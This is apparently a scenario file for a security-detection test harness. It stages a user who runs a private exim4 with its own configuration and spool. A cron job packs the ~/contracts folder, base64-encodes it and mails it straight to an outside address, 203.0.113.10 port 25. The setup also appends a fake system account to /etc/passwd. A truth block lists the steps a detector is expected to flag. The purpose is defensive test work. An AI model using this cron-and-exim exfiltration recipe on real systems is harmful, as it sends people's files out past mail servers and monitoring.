# A whole mail transfer agent, run by a user for a user.
title="exim -t with a spool of its own sends an archive straight to an outside server"
what="Somebody with clerk's login has unpacked exim4 below ~/.cache and gives it a configuration and a spool there. A crontab line packs ~/contracts, encodes it with base64 and pipes the message to exim -C -t, which delivers at once to 203.0.113.10 port 25, past the own server. The account Debian-exim, which the program looks up, is left of an earlier installation."
host=ws3.example.org user=clerk daemons="cron sshd"

setup() {
  local at; at=$(unpacked exim4-daemon-light) || return 1
  mkdir -p /home/clerk/.cache/ex/spool /home/clerk/contracts; head -c 90000 /dev/urandom > /home/clerk/contracts/lease.pdf
  install -m 755 "$at/usr/sbin/exim4" /home/clerk/.cache/ex/exim
  cat > /home/clerk/.cache/ex/conf <<'CF'
exim_user = clerk
exim_group = clerk
deliver_drop_privilege = true
primary_hostname = ws3.example.org
spool_directory = /home/clerk/.cache/ex/spool
log_file_path = /home/clerk/.cache/ex/%slog
keep_environment =
begin routers
out:
  driver = manualroute
  route_list = * 203.0.113.10 byname
  transport = smtp
begin transports
smtp:
  driver = smtp
  hosts_try_fastopen =
CF
  chown -R clerk: /home/clerk/.cache /home/clerk/contracts
  echo 'Debian-exim:x:117:117::/var/spool/exim4:/usr/sbin/nologin' >> /etc/passwd; echo 'Debian-exim:x:117:' >> /etc/group
  printf '* * * * * (echo To: vault@example.net; echo Subject: c; echo; tar -czf - -C $HOME contracts | base64) | $HOME/.cache/ex/exim -C $HOME/.cache/ex/conf -odi -t\n' > "$base/out/crontab"
}
act() {
  small_talk 2
  crontab -u clerk "$base/out/crontab"
  for _ in $(seq 1 150); do grep -q 'CMD.*exim' /var/log/recorded && break; sleep 0.5; done
  sleep 6
  crontab -u clerk -r
  small_talk 1
}
truth() {
  log_step job 'CRON.*CMD.*exim' 'cron starts the job'
  exec_step pack 'tar -czf - -C /home/clerk contracts' 'a folder is packed'
  exec_step send 'exim -C .* -t' 'a mail transfer agent of the user'"'"'s own'
  net_step connect 'exim 203.0.113.10:25' 'straight to an outside server'
}
